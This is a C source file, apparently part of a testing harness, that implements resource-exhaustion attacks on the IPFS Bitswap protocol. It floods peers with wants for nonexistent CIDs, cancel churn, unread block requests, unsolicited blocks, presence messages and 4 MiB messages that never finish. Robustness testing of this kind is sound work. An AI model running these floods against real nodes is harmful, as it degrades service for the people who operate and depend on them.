/*
 * Bitswap: wants, blocks and presences that nobody asked for, messages that never end.
 */
#include "attack/attacks.h"

#include "codec/protobuf.h"
#include "exchange/bitswap/message.h"

enum {
    LINES_MAX = 64,
    WANTS = 700,
    BLOCKS = 8,
    BLOCK_BYTES = 4 << 10,
    MESSAGE_BYTES = 4 << 20,
    UNFINISHED = 60,
};

static const char BITSWAP[] = "/ipfs/bitswap/1.2.0";

static size_t lines_of(const attack *a)
{
    return CN_MIN(CN_MAX(a->count, (size_t)1), (size_t)LINES_MAX);
}

static void run(attack *a, bool (*again)(line *l), bool is_deaf)
{
    line *lines = begin_lines(a, lines_of(a));
    for (size_t i = 0; i < lines_of(a); i++) {
        lines[i].is_deaf = is_deaf;
    }
    rounds(a, lines, lines_of(a), again);
    end_lines(lines, lines_of(a));
}

/* A CID of raw bytes that nobody has. */
static cn_cid nobodys(uint64_t number)
{
    uint8_t bytes[36] = {1, 0x55, 0x12, 32, 0xa7};
    cn_cid cid = {0};
    for (int i = 0; i < 8; i++) {
        bytes[10 + i] = (uint8_t)(number >> (8 * i));
    }
    must(cn_cid_decode_all(cn_slice_of(bytes, sizeof bytes), &cid));
    return cid;
}

static uint32_t stream_of(line *l)
{
    return l->no == 1 ? line_stream(l, BITSWAP) : l->no - 2;
}

/* A body as one message on a stream. */
static void put_message(line *l, uint32_t no, const cn_buf *body)
{
    cn_buf whole = {0};
    cn_buf_init(&whole, l->a->mem, 2 * MESSAGE_BYTES);
    must(cn_message_put_length(&whole, body->len));
    must(cn_buf_append(&whole, cn_buf_slice(body)));
    frame_data(l, 0, no, cn_buf_slice(&whole));
    cn_buf_release(&whole);
}

static bool want_some(line *l, bool is_same, bool is_cancelled)
{
    static uint64_t number;
    cn_buf entries = {0};
    cn_buf body = {0};
    cn_buf_init(&entries, l->a->mem, MESSAGE_BYTES);
    cn_buf_init(&body, l->a->mem, MESSAGE_BYTES);
    uint64_t first = number;
    uint32_t no = stream_of(l);
    for (int i = 0; i < WANTS; i++) {
        cn_cid cid = nobodys(is_same ? 0 : number++);
        must(cn_message_put_want(&entries, &cid, 1, i % 2 == 0, true));
    }
    for (uint64_t i = first; is_cancelled && i < number; i += 2) {
        cn_cid cid = nobodys(i);
        must(cn_message_put_cancel(&entries, &cid));
    }
    must(cn_message_put_wantlist(&body, cn_buf_slice(&entries), false));
    put_message(l, no, &body);
    cn_buf_release(&entries);
    cn_buf_release(&body);
    return line_flush(l);
}

static bool want_and_cancel(line *l)
{
    return want_some(l, false, true);
}

static bool want_the_same(line *l)
{
    return want_some(l, true, false);
}

void attack_wants(attack *a)
{
    run(a, want_and_cancel, false);
}

void attack_same_want(attack *a)
{
    run(a, want_the_same, false);
}

/* The block that was named, again and again, none of them read. */
static bool want_what_is_there(line *l)
{
    cn_buf entries = {0};
    cn_buf body = {0};
    cn_cid cid = {0};
    if (l->a->cid.len == 0 || cn_cid_decode_all(l->a->cid, &cid) != CN_OK) {
        return false;
    }
    cn_buf_init(&entries, l->a->mem, MESSAGE_BYTES);
    cn_buf_init(&body, l->a->mem, MESSAGE_BYTES);
    uint32_t no = stream_of(l);
    must(cn_message_put_want(&entries, &cid, 1, false, true));
    must(cn_message_put_wantlist(&body, cn_buf_slice(&entries), false));
    put_message(l, no, &body);
    cn_buf_release(&entries);
    cn_buf_release(&body);
    pause_ms(l->a, 2);
    return line_flush(l);
}

void attack_deaf_wants(attack *a)
{
    run(a, want_what_is_there, true);
}

void attack_no_window(attack *a)
{
    run(a, want_what_is_there, false);
}

static bool send_blocks(line *l)
{
    static uint8_t data[BLOCK_BYTES];
    cn_buf body = {0};
    uint32_t no = stream_of(l);
    cn_buf_init(&body, l->a->mem, MESSAGE_BYTES);
    for (int i = 0; i < BLOCKS; i++) {
        cn_cid cid = nobodys((uint64_t)i);
        for (size_t k = 0; k < sizeof(uint64_t); k++) {
            data[k] = (uint8_t)(l->a->sent_bytes >> (8 * k));
        }
        data[8] = (uint8_t)i;
        must(cn_message_put_block_head(&body, &cid, sizeof data, false));
        must(cn_buf_append(&body, cn_slice_of(data, sizeof data)));
    }
    put_message(l, no, &body);
    cn_buf_release(&body);
    return line_flush(l);
}

/* A liar comes back under another name as often as it may. */
void attack_blocks(attack *a)
{
    while (!is_over(a) && a->opened < a->count) {
        run(a, send_blocks, false);
    }
}

/* Streams that say a length of 4 MiB and send all but the end of it. */
static bool leave_unfinished(line *l)
{
    static uint8_t piece[128 << 10];
    uint8_t length[] = {0x80, 0x80, 0x80, 2};
    if (l->no > 2 * UNFINISHED) {
        pause_ms(l->a, 50);
        return !line_is_cut(l);
    }
    uint32_t no = line_stream(l, BITSWAP);
    frame_data(l, 0, no, cn_slice_of(length, sizeof length));
    frame_data(l, 0, no, cn_slice_of(piece, sizeof piece));
    return line_flush(l);
}

void attack_messages(attack *a)
{
    run(a, leave_unfinished, false);
}

static bool send_presences(line *l)
{
    static uint64_t number;
    cn_buf body = {0};
    uint32_t no = stream_of(l);
    cn_buf_init(&body, l->a->mem, MESSAGE_BYTES);
    for (int i = 0; i < WANTS; i++) {
        cn_cid cid = nobodys(number++);
        must(cn_message_put_presence(&body, &cid, i % 2 == 0));
    }
    put_message(l, no, &body);
    cn_buf_release(&body);
    return line_flush(l);
}

void attack_presences(attack *a)
{
    run(a, send_presences, false);
}
